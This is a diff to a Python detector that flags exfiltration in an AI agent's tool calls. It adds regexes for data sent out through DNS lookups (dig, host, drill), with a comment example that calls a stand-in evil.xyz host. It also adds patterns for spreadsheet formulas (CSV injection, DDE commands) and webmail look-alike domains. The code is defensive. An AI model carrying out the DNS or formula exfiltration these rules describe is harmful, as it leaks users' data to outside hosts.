@@ -197,8 +197,15 @@ def _foreign_bucket(views: tuple[str, ...], internal: Iterable[str]) -> str | No
 
 _IMAGE_PUSH = re.compile(r"\b(?:docker|podman|buildah|crane|skopeo|helm|oras)\b[^;&|]*?\s(?:push|copy)\s+(?:--\S+\s+)*(?:(?:docker|oci)://)?([$\w./:@{}-]+)"
                          r"(?:\s+(?:--\S+\s+)*(?:docker|oci)://([$\w./:@{}-]+))?")  # (buildah push SRC docker://DEST)
-_DNS_FROM_CODE = Hinted(fast_regex(r"\b(?:gethostbyname|getaddrinfo|resolve|query|nslookup)\s*\([^;\n]{0,120}?\+\s*[\"']\.[\w-]+\.[\w.-]+[\"']"),
-                        "gethostbyname|getaddrinfo|resolve|query|nslookup")
+_DNS_FROM_CODE = Hinted(fast_regex(r"\b(?:gethostbyname|getaddrinfo|resolve|query|nslookup)\s*\([^;\n]{0,120}?\+\s*[\"']\.[\w-]+\.[\w.-]+[\"']"
+                                   # (or a lookup program given a name built of data: ['dig', x + '.t.evil.xyz'])
+                                   r"|[\"'](?:nslookup|dig|host|drill)[\"']\s*,[^\]\n]{0,120}?(?:\+\s*[\"']|\}|f[\"']\{[^}]+\})\.[\w-]+\.[\w.-]+[\"']"),
+                        "gethostbyname|getaddrinfo|resolve|query|nslookup|dig|host|drill")
+# a spreadsheet formula that calls out when the file is opened (CSV injection): its URL takes
+# the cells with it; a DDE call runs a program
+_CALLING_FORMULA = Hinted(fast_regex(r"(?:^|[,;\t\"])\s*[=+@-]\s*(?:hyperlink|webservice|importxml|importdata|importhtml|importfeed|image)"
+                                     r"\s*\(\s*[\"']?https?://([^/\s\"'?]+)|(?:^|[,;\t\"])\s*[=+@-]\s*(?:cmd|powershell|msexcel)\s*\|", re.M),
+                          "hyperlink|webservice|import|image|cmd|powershell|msexcel")
 
 
 _URL_WITH_QUERY = re.compile(r"\bhttps?://([^/\s?#\"']+)[^\s\"'<>]*?[?&][\w-]+=([A-Za-z0-9+/_-]{32,}={0,2})")
@@ -219,7 +226,7 @@ def _data_in_url(call: ToolCall, internal: Iterable[str]) -> str | None:
                 plain = base64.b64decode(blob + "=" * (-len(blob) % 4), altchars=b"-_").decode()
             except (ValueError, UnicodeDecodeError):
                 continue
-            if plain.isprintable() and re.search(r"[@,:;=]", plain):
+            if plain.replace("\n", "").replace("\t", "").isprintable() and re.search(r"[@,:;=]", plain):  # (lines: a table)
                 return host
     return None
 
@@ -233,7 +240,14 @@ def _company_image(ref: str, internal: Iterable[str]) -> bool:
 
 
 def personal_mailbox(address: str) -> bool:
-    return address.strip().lower().rsplit("@", 1)[-1] in _PERSONAL_MAIL
+    """An address at a free webmail service (gmail.com; also a look-alike such as
+    gmail.example.com, which is no company's)."""
+    domain = address.strip().lower().rsplit("@", 1)[-1]
+    return domain in _PERSONAL_MAIL or domain.split(".", 1)[0] in _WEBMAIL_BRANDS
+
+
+_WEBMAIL_BRANDS = frozenset({"gmail", "googlemail", "hotmail", "yahoo", "icloud", "protonmail", "proton", "gmx",
+                             "yandex", "mailinator", "tutanota", "aol", "outlook"})
 
 
 def _foreign_source(views: tuple[str, ...], internal: Iterable[str]) -> str | None:
@@ -395,6 +409,12 @@ def network_findings(call: ToolCall, views: tuple[str, ...], internal: Iterable[
     if any(_DNS_FROM_CODE.search(v) for v in views):
         yield finding("exfiltration.dns", "sends data out in DNS lookups")
         return
+    if call.action_type == "fs:write":
+        formula = next((m for v in views if (m := _CALLING_FORMULA.search(v))), None)
+        if formula is not None and not (formula.group(1) and is_internal(formula.group(1).lower(), internal)):
+            yield finding("exfiltration.spreadsheet_formula", "writes a spreadsheet formula that sends its "
+                          "cells out or runs a program when the file is opened")
+            return
     # (a URL written into a document is no request)
     encoded = None if call.action_type == "fs:write" and call.text("path").lower().endswith(
         (".md", ".rst", ".txt", ".adoc")) else _data_in_url(call, internal)  # (an HTML page's pixel is requested)
